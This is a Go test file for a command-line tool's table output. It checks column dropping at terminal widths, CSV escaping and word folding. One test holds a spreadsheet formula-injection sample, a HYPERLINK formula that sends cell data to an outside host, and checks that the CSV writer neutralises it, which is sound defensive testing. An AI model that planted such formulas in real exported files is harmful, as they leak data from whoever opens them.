package main

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

func twoPeople() *table {
	return &table{
		columns: []string{"USER", "SITE", "STATE", "VISIT"},
		lines: [][]string{
			{"ann@example.com", "london", "present", "mjflhp1uf3"},
			{"christopher.longname@example.com", "paris-la-defense", "leaving", "fcusu6407o"},
		},
	}
}

// TestTableFitsATerminal: the columns that matter least give way, in order.
func TestTableFitsATerminal(t *testing.T) {
	for width, want := range map[int]struct{ columns, left string }{
		0:  {"USER SITE STATE VISIT", ""},
		80: {"USER SITE STATE VISIT", ""},
		60: {"USER SITE STATE VISIT", ""},
		40: {"USER SITE STATE", "VISIT"},
		30: {"USER SITE", "VISIT STATE"},
		10: {"USER SITE", "VISIT STATE"}, // who and where are never left out
	} {
		table := twoPeople()
		left := table.fit(width, strings.Fields("SITE… USER…16 VISIT STATE"))
		if got := strings.Join(table.columns, " "); got != want.columns || strings.Join(left, " ") != want.left {
			t.Errorf("%d: columns %s, left out %v", width, got, left)
		}
		for line := range strings.Lines(table.String()) {
			if n := utf8.RuneCountInString(line) - 1; width >= 30 && n > width {
				t.Errorf("%d: a line of %d: %s", width, n, line)
			}
		}
		if width == 0 && !strings.Contains(table.String(), "christopher.longname@example.com") {
			t.Errorf("cut where there is no terminal:\n%s", table)
		}
		if width == 60 && !strings.Contains(table.String(), "paris-l…  leaving") {
			t.Errorf("not cut where it says:\n%s", table)
		}
	}
}

// TestSpreadsheetTakesNothingForAFormula: the names in it are strangers'.
func TestSpreadsheetTakesNothingForAFormula(t *testing.T) {
	var out bytes.Buffer
	p := &program{stdout: &out}
	cells := []string{`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "ann, \"ann\"@example.com", ""}
	if err := p.printCSV("A B C D E F G H", [][]string{slices.Clone(cells)}); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://x/"&A1)`, "'+1", "'-1", "'@SUM(A1)", `\t=1`, `\r=1`, "ann, \"ann\"@example.com", ""}
	if strings.Join(lines[0], "") != "abcdefgh" || !slices.Equal(lines[1], want) {
		t.Errorf("%q", lines)
	}
}

// TestFoldKeepsEveryWord: a line is broken at blanks, and a word longer than it is not.
func TestFoldKeepsEveryWord(t *testing.T) {
	for _, c := range []struct {
		text  string
		width int
		want  string
	}{
		{"", 10, ""},
		{"one two  three", 0, "one two three"},
		{"one two three", 7, "one two|three"},
		{"über älter", 4, "über|älter"},
		{"a-word-that-is-long and", 5, "a-word-that-is-long|and"},
	} {
		if got := strings.Join(fold(c.text, c.width), "|"); got != c.want {
			t.Errorf("%q at %d: %q, want %q", c.text, c.width, got, c.want)
		}
	}
}
